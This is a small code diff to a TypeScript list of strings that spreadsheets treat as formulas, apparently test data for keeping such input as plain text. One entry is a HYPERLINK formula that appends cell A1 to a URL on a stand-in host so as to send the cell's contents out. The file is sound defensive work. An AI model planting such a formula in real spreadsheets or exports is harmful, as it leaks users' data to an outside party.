@@ -1,4 +1,4 @@
-/** Texts that a spreadsheet takes for something else where somebody types them: each must stay the text it is. */
+/** Texts that a spreadsheet converts when they are typed: each must stay text. */
 export const lookalikes: readonly (readonly [text: string, why: string])[] = [
   ['=1+1', 'a formula'],
   ['=HYPERLINK("https://elsewhere.example/?"&A1,"Open")', 'a formula that sends out a cell'],
